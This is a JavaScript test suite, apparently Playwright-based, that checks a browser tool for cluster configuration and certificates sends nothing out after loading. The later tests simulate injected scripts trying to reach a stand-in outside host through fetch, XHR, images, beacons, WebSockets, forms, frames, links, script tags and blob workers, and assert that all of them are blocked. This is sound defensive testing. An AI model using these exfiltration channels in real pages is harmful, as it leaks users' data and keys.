// Nothing leaves the page once it has loaded: not while it is used, and not
// when a script inside it tries.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';

import { folder, stage } from './browser.mjs';
import { run } from './judges.mjs';
import {
  bringCa, checked, choose, drop, fileTab, fileText, forgetCa, fragmentOf, green, node, notice, open, regenerate, reveal, saveAll, savePlan,
  selectEdge, wipe,
} from './tab.mjs';

const scene = stage();

// Everything that a page asks for from now on, by the server's log and by the
// browser's own events: what its policy stopped would be among them. What it
// makes itself is asked of nobody.
function asked(page) {
  const before = scene.site.log.length;
  const events = [];
  const note = (request) => /^(blob|data):/.test(request.url()) || events.push(request.url());
  page.context().on('requestfinished', note);
  page.context().on('requestfailed', note);
  return () => ({ log: scene.site.log.slice(before), events });
}

const uses = {
  'typing and choosing': async (page) => {
    await choose(page, 'cluster.namespace', 'metrics');
    await choose(page, 'cluster.namespace', 'Not A Name');
    await choose(page, 'cluster.namespace', 'metrics');
    for (const mode of ['read-write', 'monolithic', 'microservices']) await choose(page, 'mode', mode);
    await choose(page, 'policy.http', 'RequireAndVerifyClientCert');
    await choose(page, 'certificates.algorithm', 'rsa-2048');
    await green(page);
  },
  'going through the cluster': async (page) => {
    await node(page, 'querier').click();
    await selectEdge(page, 'querier', 'store-gateway');
    await page.keyboard.press('Escape');
  },
  'reading and copying files': async (page) => {
    for (const name of [/^YAML/, /^Certificates/, /^Plan and proof/, /^Keys/, /^Flags/]) await fileTab(page, name).click();
    await fileText(page, 'yaml/querier.yaml');
    await page.getByRole('button', { name: 'Copy yaml/querier.yaml' }).click();
    await page.getByRole('status').filter({ hasText: 'yaml/querier.yaml copied' }).waitFor();
  },
  'showing, making and wiping keys': async (page) => {
    await reveal(page, 'certs/root.key');
    await regenerate(page, { sure: true });
    await green(page);
    await wipe(page);
    await page.getByRole('region', { name: 'Files' }).getByRole('button', { name: 'Make new keys' }).click();
    await green(page);
  },
  'a CA of one\'s own': async (page, t) => {
    const into = folder(t);
    await run('openssl', [
      'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-subj', '/CN=mine',
      '-keyout', join(into, 'ca.key'), '-out', join(into, 'ca.crt'), '-addext', 'keyUsage=critical,keyCertSign',
    ]);
    await bringCa(page, join(into, 'ca.crt'), join(into, 'ca.key'));
    await green(page);
    await forgetCa(page);
    await green(page);
  },
  'downloading, and a plan that comes back': async (page, t) => {
    const into = folder(t);
    await saveAll(page, join(into, 'all.zip'));
    await savePlan(page, join(into, 'plan.yaml'));
    await drop(page, 'plan.yaml', readFileSync(join(into, 'plan.yaml'), 'utf8'));
    await notice(page);
    await green(page);
  },
  'the second door': async (page) => {
    await page.getByRole('button', { name: 'Check what you have' }).click();
    await page.getByRole('button', { name: 'Try an example' }).click();
    await checked(page);
    await page.getByRole('textbox', { name: 'Text to check' }).fill('level=error err="remote error: tls: bad certificate"');
    await page.getByRole('button', { name: 'Check this text' }).click();
    await checked(page);
    await page.getByRole('button', { name: 'Take it over as a plan' }).click();
    await green(page);
  },
  'languages, colours, back and forward': async (page) => {
    await page.getByRole('combobox', { name: 'Colours' }).selectOption('dark');
    await page.getByRole('button', { name: 'Deutsch' }).click();
    await page.getByRole('button', { name: 'English' }).click();
    await page.goBack();
    await page.goForward();
    await page.evaluate((fragment) => (location.hash = fragment), fragmentOf({ mode: 'monolithic' }));
    await green(page);
  },
};

test('nothing is asked for once the padlock is closed, whatever is used', async (t) => {
  const page = await open(t, scene);
  await green(page);
  const since = asked(page);
  for (const [what, use] of Object.entries(uses)) {
    await use(page, t);
    assert.deepEqual(since(), { log: [], events: [] }, what);
  }
});

test('what counts the requests can see one', async (t) => {
  const page = await open(t, scene);
  const since = asked(page);
  await page.reload();
  assert.ok(since().events.length > 0);
});

// A door in another origin that counts who says something. A browser may open
// a connection for what a policy then forbids; nothing is said over it.
async function door(t) {
  const knocks = [];
  const server = createServer((socket) => {
    socket.on('data', (said) => {
      knocks.push(said.toString());
      socket.destroy();
    });
    socket.on('error', () => {});
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  server.on('connection', (socket) => t.after(() => socket.destroy()));
  return { address: `127.0.0.1:${server.address().port}`, knocks };
}

// What a script that got into the page could try. Each says whether it came through.
const attempts = {
  fetch: (host) => fetch(`http://${host}/`, { mode: 'no-cors' }).then(() => true, () => false),
  XMLHttpRequest: (host) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(true);
      request.onerror = () => resolve(false);
      request.open('GET', `http://${host}/`);
      request.send();
    }),
  image: (host) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve(true);
      image.onerror = () => resolve(false);
      image.src = `http://${host}/x.png`;
    }),
  // The browser may well say that it has queued the beacon; the door knows better.
  beacon: (host) => void navigator.sendBeacon(`http://${host}/`, 'key'),
  WebSocket: (host) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`ws://${host}/`);
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    }),
  EventSource: (host) =>
    new Promise((resolve) => {
      const source = new EventSource(`http://${host}/`);
      source.onopen = () => resolve(true);
      source.onerror = () => resolve(source.close() ?? false);
    }),
  form: (host) => {
    const form = document.createElement('form');
    form.action = `http://${host}/`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
    form.remove();
  },
  frame: (host) => {
    const frame = document.createElement('iframe');
    frame.src = `http://${host}/`;
    document.body.append(frame);
  },
  stylesheet: (host) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `http://${host}/x.css`;
    document.head.append(link);
  },
  prefetch: (host) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `http://${host}/x`;
    document.head.append(link);
  },
};

for (const [name, attempt] of Object.entries(attempts)) {
  test(`an injected ${name} fails, in another origin and in its own`, async (t) => {
    const page = await open(t, scene);
    const { address, knocks } = await door(t);
    const asked = scene.site.log.length;
    const own = new URL(scene.site.origin).host;
    for (const host of [address, own]) {
      assert.notEqual(await page.evaluate(attempt, host), true, host);
    }
    await page.waitForTimeout(500);
    assert.deepEqual(knocks, []);
    assert.deepEqual(scene.site.log.slice(asked), []);
    assert.equal(new URL(page.url()).host, own);
  });
}

test('an injected script does not run', async (t) => {
  const page = await open(t, scene);
  const { address, knocks } = await door(t);
  const threw = await page.evaluate((host) => {
    const script = document.createElement('script');
    try {
      script.src = `http://${host}/x.js`;
    } catch (error) {
      return error.name;
    }
    document.head.append(script);
    return 'nothing';
  }, address);
  assert.equal(threw, 'TypeError', 'Trusted Types refuse the address');
  assert.deepEqual(knocks, []);
});

test('text never becomes markup', async (t) => {
  const page = await open(t, scene);
  const threw = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<img src=x>';
    } catch (error) {
      return error.name;
    }
    return 'nothing';
  });
  assert.equal(threw, 'TypeError');
});

for (const name of ['fetch', 'WebSocket', 'XMLHttpRequest', 'EventSource']) {
  test(`in the worker, an injected ${name} fails`, async (t) => {
    const page = await open(t, scene);
    const { address, knocks } = await door(t);
    const [worker] = page.workers();
    assert.equal(await worker.evaluate(attempts[name], address), false);
    await page.waitForTimeout(200);
    assert.deepEqual(knocks, []);
  });
}

test('a worker made later, or one that the worker makes, cannot connect either', async (t) => {
  const page = await open(t, scene);
  const { address, knocks } = await door(t);
  const text = `fetch('http://${address}/', { mode: 'no-cors' })`;
  const make = (text) => {
    try {
      new Worker(URL.createObjectURL(new Blob([text])));
      return 'made';
    } catch (error) {
      return error.name;
    }
  };
  assert.equal(await page.evaluate(make, text), 'TypeError');
  await page.workers()[0].evaluate(make, text);
  await page.waitForTimeout(500);
  assert.deepEqual(knocks, []);
});
